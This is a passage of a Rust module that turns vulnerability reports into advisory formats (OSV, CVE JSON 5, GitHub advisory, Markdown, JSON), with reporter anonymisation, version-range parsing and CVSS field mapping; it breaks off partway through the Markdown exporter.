//! Advisory exports of a report: the report JSON, a Markdown advisory draft, an OSV
//! record, a CVE JSON 5 record and a GitHub repository security advisory request.
//!
//! Pure: takes a [`Report`] and an [`Advisory`] context (from the configuration and
//! the clock) and returns text. No I/O.
//!
//! The credit rule holds for every format: the reporter is named only when their
//! `credit` wish is `"public"`. Otherwise (`"anonymous"` or not said) the report is
//! first [anonymised](anonymised): the reporter's name, handle and contact, the From
//! name and address, the signer fingerprint and the Message-ID are dropped, and their
//! verbatim occurrences in free text are replaced by `[redacted]`.

use std::fmt;
use std::str::FromStr;

use serde_json::{Map, Value, json};

use crate::report::model::{Cvss, Report};
use crate::term::cut;

/// An export format, as given to `vulnmail export --format`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Json,
    Markdown,
    Osv,
    Cve5,
    Ghsa,
}

impl Format {
    pub const ALL: [Format; 5] = [Format::Json, Format::Markdown, Format::Osv, Format::Cve5, Format::Ghsa];

    pub fn name(self) -> &'static str {
        match self {
            Format::Json => "json",
            Format::Markdown => "markdown",
            Format::Osv => "osv",
            Format::Cve5 => "cve5",
            Format::Ghsa => "ghsa",
        }
    }
}

impl fmt::Display for Format {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Format {
    type Err = ExportError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "json" => Ok(Format::Json),
            "markdown" | "md" => Ok(Format::Markdown),
            "osv" => Ok(Format::Osv),
            "cve5" | "cve" | "cve-json5" => Ok(Format::Cve5),
            "ghsa" | "github" => Ok(Format::Ghsa),
            _ => Err(ExportError::UnknownFormat(s.to_string())),
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("unknown export format {0:?}: use json, markdown, osv, cve5 or ghsa")]
    UnknownFormat(String),
    #[error(
        "a CVE record needs a CVE id and {0} has none: assign one with `vulnmail triage {0} --cve CVE-YYYY-NNNN` first"
    )]
    NoCve(String),
    #[error("{0:?} is not a CVE id (CVE-YYYY-NNNN)")]
    BadCve(String),
    #[error(
        "a CVE record needs the CNA's organisation UUID: set [advisory] cna_org_id in the configuration (your CNA's orgId)"
    )]
    NoCnaOrgId,
    #[error("[advisory] cna_org_id {0:?} is not a UUID")]
    BadCnaOrgId(String),
    #[error("a CVE record needs at least one reference URL: set [advisory] repository or [publish] base_url")]
    NoReference,
    #[error("cannot serialise the {0} export: {1}")]
    Serialise(&'static str, String),
}

/// What an advisory says about who publishes it, from `[advisory]` and `[team]`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Advisory {
    /// The organisation or project that makes the product (CVE `vendor`).
    pub vendor: String,
    /// The product name (CVE `product`, Markdown heading).
    pub product: String,
    /// The package ecosystem in OSV's spelling ("crates.io", "npm", "PyPI", …), if any.
    pub ecosystem: Option<String>,
    /// The package name in that ecosystem.
    pub package: Option<String>,
    /// The source repository URL (a reference in every format).
    pub repository: Option<String>,
    /// A fallback reference: the project's web site.
    pub homepage: Option<String>,
    /// The CNA's organisation UUID (CVE `providerMetadata.orgId`).
    pub cna_org_id: Option<String>,
    /// The CNA's short name (2–32 characters).
    pub cna_short_name: Option<String>,
    /// The security team's name (Markdown footer).
    pub team: String,
    /// Now, RFC 3339 UTC: the `modified`/`dateUpdated` time.
    pub now: String,
}

/// Export `report` in `format`.
pub fn export(report: &Report, ctx: &Advisory, format: Format) -> Result<String, ExportError> {
    let r = if public_credit(report) { report.clone() } else { anonymised(report) };
    let value = match format {
        Format::Markdown => return Ok(markdown(&r, ctx)),
        Format::Json => serde_json::to_value(&r).map_err(|e| ExportError::Serialise("json", e.to_string()))?,
        Format::Osv => osv(&r, ctx),
        Format::Cve5 => cve5(&r, ctx)?,
        Format::Ghsa => ghsa(&r, ctx),
    };
    let mut s =
        serde_json::to_string_pretty(&value).map_err(|e| ExportError::Serialise(format.name(), e.to_string()))?;
    s.push('\n');
    Ok(s)
}

/// Does the reporter want to be named?
pub fn public_credit(r: &Report) -> bool {
    r.fields.reporter.credit.as_deref() == Some("public")
}

const REDACTED: &str = "[redacted]";

/// The report with everything that names the reporter removed (see the module docs).
pub fn anonymised(report: &Report) -> Report {
    let mut r = report.clone();
    let mut needles: Vec<String> = Vec::new();
    let rep = &report.fields.reporter;
    for s in [&rep.name, &rep.handle, &rep.contact, &report.from.name, &report.from.address].into_iter().flatten() {
        let s = s.trim();
        needles.push(s.to_string());
        needles.push(s.trim_start_matches('@').to_string());
        // Each part of a multi-word name names the person too ("Lovelace").
        needles.extend(s.split_whitespace().filter(|p| p.chars().count() >= 3).map(str::to_string));
        if let Some((local, _)) = s.split_once('@')
            && local.chars().count() >= 3
        {
            needles.push(local.to_string());
        }
    }
    needles.retain(|n| !n.is_empty());
    // Longest first, so "Ada Lovelace" goes before "Ada".
    needles.sort_by_key(|n| std::cmp::Reverse(n.chars().count()));
    needles.dedup();
    let patterns: Vec<regex::Regex> = needles
        .iter()
        .filter_map(|n| {
            let word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
            let pre = if word(n.chars().next()) { r"\b" } else { "" };
            let post = if word(n.chars().last()) { r"\b" } else { "" };
            regex::RegexBuilder::new(&format!("{pre}{}{post}", regex::escape(n))).case_insensitive(true).build().ok()
        })
        .collect();
    let scrub = |s: &mut String| {
        for p in &patterns {
            if p.is_match(s) {
                *s = p.replace_all(s, REDACTED).into_owned();
            }
        }
    };
    let scrub_opt = |o: &mut Option<String>| {
        if let Some(s) = o.as_mut() {
            scrub(s);
        }
    };
    r.from.name = None;
    r.from.address = None;
    r.message_id = None;
    r.signature.signer = None;
    r.fields.reporter.name = None;
    r.fields.reporter.handle = None;
    r.fields.reporter.contact = None;
    let f = &mut r.fields;
    for o in [
        &mut r.subject,
        &mut f.title,
        &mut f.summary,
        &mut f.steps_to_reproduce,
        &mut f.impact,
        &mut f.affected_component,
        &mut f.affected_versions,
        &mut f.vulnerability_type,
        &mut f.proof_of_concept,
        &mut f.suggested_fix,
        &mut f.environment,
        &mut r.encryption.error,
    ] {
        scrub_opt(o);
    }
    // A URL with a name cut out of it is no longer a URL: drop it.
    f.references.retain(|u| !patterns.iter().any(|p| p.is_match(u)));
    for a in &mut r.attachments {
        scrub_opt(&mut a.filename);
    }
    for n in &mut r.notes {
        scrub(n);
    }
    r
}

/// The CVSS the advisory states: the team's when triaged, else the reporter's claim.
fn cvss(r: &Report) -> Option<&Cvss> {
    r.triage.cvss.as_ref().or(r.fields.cvss.as_ref())
}

/// The severity word: the team's, else from the CVSS score, else the reporter's claim.
fn severity(r: &Report) -> Option<String> {
    r.severity
        .clone()
        .or_else(|| {
            cvss(r).and_then(|c| c.vector.parse::<cvss::Cvss>().ok()).map(|c| c.severity().as_str().to_string())
        })
        .or_else(|| r.fields.severity.clone())
        .map(|s| s.to_ascii_lowercase())
}

/// The assigned CVE: the team's first, else one the reporter named.
fn cve_id(r: &Report) -> Option<&str> {
    r.triage.cve.first().or(r.fields.cve.first()).map(String::as_str)
}

fn is_cve_id(s: &str) -> bool {
    let mut parts = s.splitn(3, '-');
    parts.next() == Some("CVE")
        && parts.next().is_some_and(|y| y.len() == 4 && y.bytes().all(|b| b.is_ascii_digit()))
        && parts.next().is_some_and(|n| (4..=19).contains(&n.len()) && n.bytes().all(|b| b.is_ascii_digit()))
}

fn is_uuid(s: &str) -> bool {
    let groups: Vec<&str> = s.split('-').collect();
    groups.len() == 5
        && groups.iter().zip([8, 4, 4, 4, 12]).all(|(g, n)| g.len() == n && g.bytes().all(|b| b.is_ascii_hexdigit()))
        && groups[2].starts_with('4')
        && groups[3].starts_with(['8', '9', 'a', 'b', 'A', 'B'])
}

fn title(r: &Report) -> String {
    let t = r.fields.title.clone().or_else(|| r.subject.clone()).unwrap_or_default();
    let t = t.trim();
    if t.is_empty() { format!("Vulnerability report {}", r.id) } else { one_line(t) }
}

fn one_line(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn nonempty(o: &Option<String>) -> Option<&str> {
    o.as_deref().map(str::trim).filter(|s| !s.is_empty())
}

/// The long description: summary, then impact.
fn description(r: &Report, ctx: &Advisory) -> String {
    let f = &r.fields;
    let mut parts: Vec<String> = Vec::new();
    if let Some(s) = nonempty(&f.summary) {
        parts.push(s.to_string());
    }
    if let Some(s) = nonempty(&f.impact) {
        parts.push(format!("Impact: {s}"));
    }
    if let Some(s) = nonempty(&f.affected_component) {
        parts.push(format!("Affected component: {s}"));
    }
    if let Some(s) = nonempty(&f.affected_versions) {
        parts.push(format!("Affected versions: {s}"));
    }
    if parts.is_empty() {
        parts.push(format!("{} in {}.", title(r), ctx.product));
    }
    parts.join("\n\n")
}

fn urls(r: &Report, ctx: &Advisory) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for u in r.fields.references.iter().chain(ctx.repository.iter()) {
        let u = u.trim();
        if (u.starts_with("https://") || u.starts_with("http://"))
            && !u.chars().any(|c| c.is_whitespace() || c.is_control())
            && !out.iter().any(|o| o == u)
        {
            out.push(u.to_string());
        }
    }
    out
}

/// The CWE ids, normalised ("CWE-79").
fn cwes(r: &Report) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for c in &r.fields.cwe {
        let n = c.trim().to_ascii_uppercase();
        let digits = n.strip_prefix("CWE-").unwrap_or(&n);
        if !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()) && !digits.starts_with('0') {
            let id = format!("CWE-{digits}");
            if !out.contains(&id) {
                out.push(id);
            }
        }
    }
    out
}

/// The name to credit (only ever called for a public-credit report).
fn credit_name(r: &Report) -> Option<String> {
    if !public_credit(r) {
        return None;
    }
    let rep = &r.fields.reporter;
    let name = nonempty(&rep.name).or(nonempty(&r.from.name)).map(one_line);
    let handle = nonempty(&rep.handle).map(one_line);
    match (name, handle) {
        (Some(n), Some(h)) if n != h => Some(format!("{n} ({h})")),
        (Some(n), _) => Some(n),
        (None, Some(h)) => Some(h),
        (None, None) => None,
    }
}

/// A GitHub login for the credit, when the reporter gave one as their handle.
fn github_login(r: &Report) -> Option<String> {
    if !public_credit(r) {
        return None;
    }
    let h = nonempty(&r.fields.reporter.handle)?.trim_start_matches('@');
    let h = h.strip_prefix("https://github.com/").unwrap_or(h).trim_end_matches('/');
    let ok = !h.is_empty()
        && h.len() <= 39
        && h.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        && !h.starts_with('-')
        && !h.ends_with('-');
    ok.then(|| h.to_string())
}

/// A version range read from the free text "affected versions".
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Versions {
    /// Versions from `introduced` (inclusive; "0" for all earlier) up to `fixed` (exclusive).
    Before { introduced: String, fixed: String },
    /// Versions from `introduced` up to and including `last`.
    Through { introduced: String, last: String },
    /// These versions exactly.
    Exact(Vec<String>),
}

fn is_version(s: &str) -> bool {
    let s = s.strip_prefix('v').unwrap_or(s);
    !s.is_empty()
        && s.starts_with(|c: char| c.is_ascii_digit())
        && s.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+' | '_'))
}

fn bare(v: &str) -> String {
    v.strip_prefix('v').unwrap_or(v).to_string()
}

/// Read the common ways reporters write a range: "< 1.4.2", "before 1.4.2",
/// "<= 2.3.1", "2.3.1 and earlier", ">= 1.0, < 1.4.2", "1.2.0, 1.2.1". Anything
/// else is `None` and stays free text.
pub fn parse_versions(text: &str) -> Option<Versions> {
    let t = text.trim().trim_end_matches('.').to_ascii_lowercase();
    let t = t.replace(['(', ')'], " ");
    let words: Vec<&str> = t.split(|c: char| c.is_whitespace() || c == ',').filter(|w| !w.is_empty()).collect();
    // Join operators written apart from their version: "< 1.2" -> "<1.2".
    let mut toks: Vec<String> = Vec::new();
    let mut i = 0;
    while i < words.len() {
        let w = words[i];
        let op = matches!(w, "<" | "<=" | ">" | ">=" | "=" | "before" | "until" | "through" | "from" | "up" | "to");
        if op && i + 1 < words.len() {
            let (op, skip) = match (w, words[i + 1]) {
                ("up", "to") => ("<=", 2),
                ("before" | "until", _) => ("<", 1),
                ("through", _) => ("<=", 1),
                ("from", _) => (">=", 1),
                (o, _) => (o, 1),
            };
            if i + skip < words.len() {
                toks.push(format!("{op}{}", words[i + skip]));
                i += skip + 1;
                continue;
            }
        }
        toks.push(w.to_string());
        i += 1;
    }
    let toks: Vec<String> =
        toks.into_iter().filter(|w| !matches!(w.as_str(), "versions" | "version" | "all" | "and")).collect();
    let mut introduced: Option<String> = None;
    let mut fixed: Option<String> = None;
    let mut last: Option<String> = None;
    let mut exact: Vec<String> = Vec::new();
    let mut k = 0;
    while k < toks.len() {
        let w = toks[k].as_str();
        if let Some(v) = w.strip_prefix("<=").filter(|v| is_version(v)) {
            last = Some(bare(v));
        } else if let Some(v) = w.strip_prefix('<').filter(|v| is_version(v)) {
            fixed = Some(bare(v));
        } else if let Some(v) = w.strip_prefix(">=").filter(|v| is_version(v)) {
            introduced = Some(bare(v));
        } else if let Some(v) = w.strip_prefix('=').filter(|v| is_version(v)) {
            exact.push(bare(v));
        } else if is_version(w) {
            match toks.get(k + 1).map(String::as_str) {
                Some("earlier" | "older" | "below" | "prior") => {
                    last = Some(bare(w));
                    k += 1;
                }
                _ => exact.push(bare(w)),
            }
        } else {
            return None;
        }
        k += 1;
    }
    let introduced_or_zero = || introduced.clone().unwrap_or_else(|| "0".into());
    match (fixed, last, exact.is_empty()) {
        (Some(f), None, true) => Some(Versions::Before { introduced: introduced_or_zero(), fixed: f }),
        (None, Some(l), true) => Some(Versions::Through { introduced: introduced_or_zero(), last: l }),
        (None, None, false) if introduced.is_none() => Some(Versions::Exact(exact)),
        _ => None,
    }
}

/// OSV's spelling of an ecosystem, from OSV's or GitHub's name.
fn osv_ecosystem(e: &str) -> String {
    match e.trim().to_ascii_lowercase().as_str() {
        "crates.io" | "rust" | "cargo" => "crates.io".into(),
        "npm" => "npm".into(),
        "pypi" | "pip" => "PyPI".into(),
        "go" => "Go".into(),
        "maven" => "Maven".into(),
        "rubygems" => "RubyGems".into(),
        "nuget" => "NuGet".into(),
        "packagist" | "composer" => "Packagist".into(),
        "hex" | "erlang" => "Hex".into(),
        "pub" => "Pub".into(),
        "github actions" | "actions" => "GitHub Actions".into(),
        "swifturl" | "swift" => "SwiftURL".into(),
        _ => e.trim().to_string(),
    }
}

/// GitHub's advisory ecosystem for an OSV ecosystem ("other" when it has none).
fn ghsa_ecosystem(e: Option<&str>) -> &'static str {
    match e.map(osv_ecosystem).as_deref() {
        Some("crates.io") => "rust",
        Some("npm") => "npm",
        Some("PyPI") => "pip",
        Some("Go") => "go",
        Some("Maven") => "maven",
        Some("RubyGems") => "rubygems",
        Some("NuGet") => "nuget",
        Some("Packagist") => "composer",
        Some("Hex") => "erlang",
        Some("Pub") => "pub",
        Some("GitHub Actions") => "actions",
        Some("SwiftURL") => "swift",
        _ => "other",
    }
}

fn osv(r: &Report, ctx: &Advisory) -> Value {
    let cve = cve_id(r).filter(|c| is_cve_id(c));
    // OSV ids start with the home database's registered prefix; a project's own
    // database has none, and "x_" is the schema's prefix for those.
    let id = match cve {
        Some(c) => c.to_string(),
        None => format!("x_{}", r.id),
    };
    let mut o = Map::new();
    o.insert("schema_version".into(), json!("1.7.0"));
    o.insert("id".into(), json!(id));
    o.insert("modified".into(), json!(ctx.now));
    if let Some(p) = r.triage.disclosed_at.as_deref() {
        o.insert("published".into(), json!(p));
    }
    let aliases: Vec<&String> = r.triage.cve.iter().chain(&r.fields.cve).filter(|c| Some(c.as_str()) != cve).collect();
    if !aliases.is_empty() {
        o.insert("aliases".into(), json!(aliases));
    }
    if let Some(d) = nonempty(&r.triage.duplicate_of) {
        o.insert("related".into(), json!([d]));
    }
    o.insert("summary".into(), json!(title(r)));
    o.insert("details".into(), json!(description(r, ctx)));
    if let Some(c) = cvss(r) {
        let kind = if c.vector.starts_with("CVSS:4.") { "CVSS_V4" } else { "CVSS_V3" };
        if c.vector.starts_with("CVSS:3.") || kind == "CVSS_V4" {
            o.insert("severity".into(), json!([{ "type": kind, "score": c.vector }]));
        }
    }
    if let (Some(eco), Some(pkg)) = (ctx.ecosystem.as_deref(), ctx.package.as_deref()) {
        let mut a = Map::new();
        a.insert("package".into(), json!({ "ecosystem": osv_ecosystem(eco), "name": pkg }));
        match r.fields.affected_versions.as_deref().and_then(parse_versions) {
            Some(Versions::Before { introduced, fixed }) => {
                a.insert(
                    "ranges".into(),
                    json!([{ "type": "ECOSYSTEM", "events": [{ "introduced": introduced }, { "fixed": fixed }] }]),
                );
            }
            Some(Versions::Through { introduced, last }) => {
                a.insert(
                    "ranges".into(),
                    json!([{ "type": "ECOSYSTEM", "events": [{ "introduced": introduced }, { "last_affected": last }] }]),
                );
            }
            Some(Versions::Exact(v)) => {
                a.insert("versions".into(), json!(v));
            }
            None => {}
        }
        o.insert("affected".into(), Value::Array(vec![Value::Object(a)]));
    }
    let refs: Vec<Value> = urls(r, ctx)
        .into_iter()
        .map(|u| {
            let kind = if ctx.repository.as_deref() == Some(u.as_str()) { "PACKAGE" } else { "WEB" };
            json!({ "type": kind, "url": u })
        })
        .collect();
    if !refs.is_empty() {
        o.insert("references".into(), Value::Array(refs));
    }
    if let Some(name) = credit_name(r) {
        let mut c = Map::new();
        c.insert("name".into(), json!(name));
        if let Some(u) = nonempty(&r.fields.reporter.contact).filter(|u| u.starts_with("https://")) {
            c.insert("contact".into(), json!([u]));
        }
        c.insert("type".into(), json!("REPORTER"));
        o.insert("credits".into(), json!([c]));
    }
    let mut db = Map::new();
    db.insert("vulnmail_id".into(), json!(r.id));
    let cw = cwes(r);
    if !cw.is_empty() {
        db.insert("cwe_ids".into(), json!(cw));
    }
    if let Some(s) = severity(r) {
        db.insert("severity".into(), json!(s.to_ascii_uppercase()));
    }
    o.insert("database_specific".into(), Value::Object(db));
    Value::Object(o)
}

/// The CVE JSON 5 metric object for a vector, with the fields computed from it.
fn cve_metric(c: &Cvss) -> Option<(&'static str, Value)> {
    let parsed: cvss::Cvss = c.vector.parse().ok()?;
    let (key, version) = if c.vector.starts_with("CVSS:3.1/") {
        ("cvssV3_1", "3.1")
    } else if c.vector.starts_with("CVSS:3.0/") {
        ("cvssV3_0", "3.0")
    } else if c.vector.starts_with("CVSS:4.0/") {
        ("cvssV4_0", "4.0")
    } else {
        return None;
    };
    let score = (parsed.score() * 10.0).round() / 10.0;
    let mut m = Map::new();
    m.insert("version".into(), json!(version));
    m.insert("vectorString".into(), json!(c.vector));
    m.insert("baseScore".into(), json!(score));
    m.insert("baseSeverity".into(), json!(parsed.severity().as_str().to_ascii_uppercase()));
    let v4 = version == "4.0";
    for part in c.vector.split('/').skip(1) {
        let Some((k, v)) = part.split_once(':') else { continue };
        let cia = |v: &str| match v {
            "H" => Some("HIGH"),
            "L" => Some("LOW"),
            "N" => Some("NONE"),
            _ => None,
        };
        let (name, value) = match (k, v) {
            ("AV", "N") => ("attackVector", Some("NETWORK")),
            ("AV", "A") => ("attackVector", Some(if v4 { "ADJACENT" } else { "ADJACENT_NETWORK" })),
            ("AV", "L") => ("attackVector", Some("LOCAL")),
            ("AV", "P") => ("attackVector", Some("PHYSICAL")),
            ("AC", "L") => ("attackComplexity", Some("LOW")),
            ("AC", "H") => ("attackComplexity", Some("HIGH")),
            ("AT", "N") => ("attackRequirements", Some("NONE")),
            ("AT", "P") => ("attackRequirements", Some("PRESENT")),
            ("PR", x) => ("privilegesRequired", cia(x)),
            ("UI", "N") => ("userInteraction", Some("NONE")),
            ("UI", "R") => ("userInteraction", Some("REQUIRED")),
            ("UI", "P") => ("userInteraction", Some("PASSIVE")),
            ("UI", "A") => ("userInteraction", Some("ACTIVE")),
            ("S", "U") if !v4 => ("scope", Some("UNCHANGED")),
            ("S", "C") if !v4 => ("scope", Some("CHANGED")),
            ("C", x) => ("confidentialityImpact", cia(x)),
            ("I", x) => ("integrityImpact", cia(x)),
            ("A", x) => ("availabilityImpact", cia(x)),
            ("VC", x) => ("vulnConfidentialityImpact", cia(x)),
            ("VI", x) => ("vulnIntegrityImpact", cia(x)),
            ("VA", x) => ("vulnAvailabilityImpact", cia(x)),
            ("SC", x) => ("subConfidentialityImpact", cia(x)),
            ("SI", x) => ("subIntegrityImpact", cia(x)),
            ("SA", x) => ("subAvailabilityImpact", cia(x)),
            _ => continue,
        };
        if let Some(value) = value {
            m.insert(name.into(), json!(value));
        }
    }
    Some((key, Value::Object(m)))
}

fn cve5(r: &Report, ctx: &Advisory) -> Result<Value, ExportError> {
    let cve = cve_id(r).ok_or_else(|| ExportError::NoCve(r.id.clone()))?;
    if !is_cve_id(cve) {
        return Err(ExportError::BadCve(cve.to_string()));
    }
    let org = ctx.cna_org_id.as_deref().map(str::trim).filter(|s| !s.is_empty()).ok_or(ExportError::NoCnaOrgId)?;
    if !is_uuid(org) {
        return Err(ExportError::BadCnaOrgId(org.to_string()));
    }
    let short = ctx.cna_short_name.as_deref().map(str::trim).filter(|s| (2..=32).contains(&s.chars().count()));
    let mut provider = Map::new();
    provider.insert("orgId".into(), json!(org));
    if let Some(s) = short {
        provider.insert("shortName".into(), json!(s));
    }
    provider.insert("dateUpdated".into(), json!(ctx.now));

    let mut product = Map::new();
    product.insert("vendor".into(), json!(cut(&ctx.vendor, 512)));
    product.insert("product".into(), json!(cut(&ctx.product, 2048)));
    if let Some(p) = ctx.package.as_deref() {
        product.insert("packageName".into(), json!(p));
    }
    if let Some(repo) = ctx.repository.as_deref() {
        product.insert("repo".into(), json!(repo));
    }
    if let Some(m) = nonempty(&r.fields.affected_component) {
        product.insert("modules".into(), json!([cut(&one_line(m), 4096)]));
    }
    let range = r.fields.affected_versions.as_deref().and_then(parse_versions);
    let vtype = if ctx.ecosystem.is_some() { "semver" } else { "custom" };
    let versions: Option<Value> = match range {
        Some(Versions::Before { introduced, fixed }) => Some(json!([
            { "version": introduced, "status": "affected", "lessThan": fixed, "versionType": vtype }
        ])),
        Some(Versions::Through { introduced, last }) => Some(json!([
            { "version": introduced, "status": "affected", "lessThanOrEqual": last, "versionType": vtype }
        ])),
        Some(Versions::Exact(v)) => {
            Some(Value::Array(v.into_iter().map(|v| json!({ "version": v, "status": "affected" })).collect()))
        }
        None => None,
    };
    match versions {
        Some(v) => {
            product.insert("versions".into(), v);
            product.insert("defaultStatus".into(), json!("unaffected"));
        }
        None => {
            product.insert("defaultStatus".into(), json!("unknown"));
        }
    }

    let mut cna = Map::new();
    cna.insert("providerMetadata".into(), Value::Object(provider));
    cna.insert("title".into(), json!(cut(&title(r), 256)));
    // The schema caps plain-text values at 4096 characters.
    cna.insert("descriptions".into(), json!([{ "lang": "en", "value": cut(&description(r, ctx), 4096) }]));
    cna.insert("affected".into(), json!([product]));
    let cw = cwes(r);
    let problem: Vec<Value> = if cw.is_empty() {
        nonempty(&r.fields.vulnerability_type)
            .map(|t| vec![json!({ "lang": "en", "description": cut(&one_line(t), 4096), "type": "text" })])
            .unwrap_or_default()
    } else {
        cw.iter().map(|c| json!({ "lang": "en", "description": c, "cweId": c, "type": "CWE" })).collect()
    };
    if !problem.is_empty() {
        cna.insert("problemTypes".into(), json!([{ "descriptions": problem }]));
    }
    if let Some((key, m)) = cvss(r).and_then(cve_metric) {
        cna.insert("metrics".into(), json!([{ key: m }]));
    }
    let mut refs = urls(r, ctx);
    if refs.is_empty()
        && let Some(h) = ctx.homepage.as_deref().filter(|h| h.starts_with("https://") || h.starts_with("http://"))
    {
        refs.push(h.to_string());
    }
    if refs.is_empty() {
        return Err(ExportError::NoReference);
    }
    cna.insert("references".into(), Value::Array(refs.into_iter().map(|u| json!({ "url": u })).collect()));
    if let Some(fix) = nonempty(&r.fields.suggested_fix) {
        cna.insert("solutions".into(), json!([{ "lang": "en", "value": cut(fix, 4096) }]));
    }
    if let Some(name) = credit_name(r) {
        cna.insert("credits".into(), json!([{ "lang": "en", "value": cut(&name, 4096), "type": "finder" }]));
    }
    let mut timeline: Vec<Value> = Vec::new();
    for (t, what) in [
        (&r.received_at, "Reported to the vendor"),
        (&r.triage.triaged_at, "Triaged"),
        (&r.triage.fixed_at, "Fixed"),
        (&r.triage.disclosed_at, "Disclosed"),
    ] {
        if let Some(t) = nonempty(t) {
            timeline.push(json!({ "time": t, "lang": "en", "value": what }));
        }
    }
    if !timeline.is_empty() {
        cna.insert("timeline".into(), Value::Array(timeline));
    }

    let mut meta = Map::new();
    meta.insert("cveId".into(), json!(cve));
    meta.insert("assignerOrgId".into(), json!(org));
    if let Some(s) = short {
        meta.insert("assignerShortName".into(), json!(s));
    }
    meta.insert("state".into(), json!("PUBLISHED"));
    meta.insert("dateUpdated".into(), json!(ctx.now));
    if let Some(p) = nonempty(&r.triage.disclosed_at) {
        meta.insert("datePublished".into(), json!(p));
    }
    Ok(json!({
        "dataType": "CVE_RECORD",
        "dataVersion": "5.1",
        "cveMetadata": meta,
        "containers": { "cna": cna },
    }))
}

fn ghsa(r: &Report, ctx: &Advisory) -> Value {
    let mut o = Map::new();
    o.insert("summary".into(), json!(cut(&title(r), 1024)));
    let mut desc = description(r, ctx);
    if let Some(s) = nonempty(&r.fields.steps_to_reproduce) {
        desc.push_str(&format!("\n\n### Steps to reproduce\n\n{s}"));
    }
    if let Some(s) = nonempty(&r.fields.suggested_fix) {
        desc.push_str(&format!("\n\n### Fix\n\n{s}"));
    }
    o.insert("description".into(), json!(cut(&desc, 65535)));
    if let Some(c) = cve_id(r).filter(|c| is_cve_id(c)) {
        o.insert("cve_id".into(), json!(c));
    }
    let mut pkg = Map::new();
    pkg.insert("ecosystem".into(), json!(ghsa_ecosystem(ctx.ecosystem.as_deref())));
    pkg.insert("name".into(), json!(ctx.package.clone().unwrap_or_else(|| ctx.product.clone())));
    let mut vuln = Map::new();
    vuln.insert("package".into(), Value::Object(pkg));
    match r.fields.affected_versions.as_deref().and_then(parse_versions) {
        Some(Versions::Before { introduced, fixed }) => {
            let range = if introduced == "0" { format!("< {fixed}") } else { format!(">= {introduced}, < {fixed}") };
            vuln.insert("vulnerable_version_range".into(), json!(range));
            vuln.insert("patched_versions".into(), json!(fixed));
        }
        Some(Versions::Through { introduced, last }) => {
            let range = if introduced == "0" { format!("<= {last}") } else { format!(">= {introduced}, <= {last}") };
            vuln.insert("vulnerable_version_range".into(), json!(range));
        }
        Some(Versions::Exact(v)) if v.len() == 1 => {
            vuln.insert("vulnerable_version_range".into(), json!(format!("= {}", v[0])));
        }
        _ => {}
    }
    o.insert("vulnerabilities".into(), json!([vuln]));
    let cw = cwes(r);
    if !cw.is_empty() {
        o.insert("cwe_ids".into(), json!(cw));
    }
    if let Some(login) = github_login(r) {
        o.insert("credits".into(), json!([{ "login": login, "type": "reporter" }]));
    }
    // GitHub takes a CVSS vector or a severity, never both.
    match cvss(r).filter(|c| c.vector.parse::<cvss::Cvss>().is_ok() && !c.vector.starts_with("CVSS:2")) {
        Some(c) => {
            o.insert("cvss_vector_string".into(), json!(c.vector));
        }
        None => {
            if let Some(s) = severity(r).filter(|s| matches!(s.as_str(), "critical" | "high" | "medium" | "low")) {
                o.insert("severity".into(), json!(s));
            }
        }
    }
    Value::Object(o)
}

fn escape_html(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

/// A fence longer than any run of backticks in `s`, so the content cannot close it.
fn fence(s: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in s.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    "`".repeat((longest + 1).max(3))
}

fn markdown(r: &Report, ctx: &Advisory) -> String {
    let f = &r.fields;
    let mut s = String::new();
    // Headings and list items are single lines of plain text, never markup.
    let line = |t: &str| escape_html(&one_line(t));
    s.push_str(&format!("# {}\n\n", line(&title(r))));
    s.push_str(&format!("- **Product:** {}\n", line(&ctx.product)));
    if let Some(c) = cve_id(r).filter(|c| is_cve_id(c)) {
        s.push_str(&format!("- **CVE:** {c}\n"));
    }
    s.push_str(&format!("- **Internal id:** {}\n", r.id));
    if let Some(sev) = severity(r) {
        s.push_str(&format!("- **Severity:** {sev}\n"));
    }
    if let Some(c) = cvss(r) {
        s.push_str(&format!("- **CVSS {}:** {} (`{}`)\n", c.version, c.score, line(&c.vector)));
    }
    let cw = cwes(r);
    if !cw.is_empty() {
        s.push_str(&format!("- **Weakness:** {}\n", cw.join(", ")));
    }
    if let Some(t) = nonempty(&f.vulnerability_type) {
        s.push_str(&format!("- **Type:** {}\n", line(t)));
    }
    if let Some(p) = ctx.package.as_deref() {
        let eco = ctx.ecosystem.as_deref().map(|e| format!(" ({})", osv_ecosystem(e))).unwrap_or_default();
        s.push_str(&format!("- **Package:** {}{eco}\n", line(p)));
    }
    if let Some(c) = nonempty(&f.affected_component) {
        s.push_str(&format!("- **Affected component:** {}\n", line(c)));
    }
    if let Some(v) = nonempty(&f.affected_versions) {
        s.push_str(&format!("- **Affected versions:** {}\n", line(v)));
    }
    let mut section = |heading: &str, body: Option<&str>| {
        if let Some(b) = body.map(str::trim).filter(|b| !b.is_empty()) {
            s.push_str(&format!("\n## {heading}\n\n{b}\n"));
        }
    };
    // What the reporter wrote is text: `<script>` shows as written instead of becoming HTML.
    let text = |o: &Option<String>| nonempty(o).map(escape_html);
    section("Description", text(&f.summary).as_deref());
    section("Impact", text(&f.impact).as_deref());
    section("Steps to reproduce", text(&f.steps_to_reproduce).as_deref());
    let poc = nonempty(&f.proof_of_concept).map(|p| {
        let fence = fence(p);
        format!("{fence}text\n{p}\n{fence}")
    });
    section("Proof of concept", poc.as_deref());
    section("Fix", text(&f.suggested_fix).as_deref());
    let credit = match (credit_name(r), f.reporter.credit.as_deref()) {
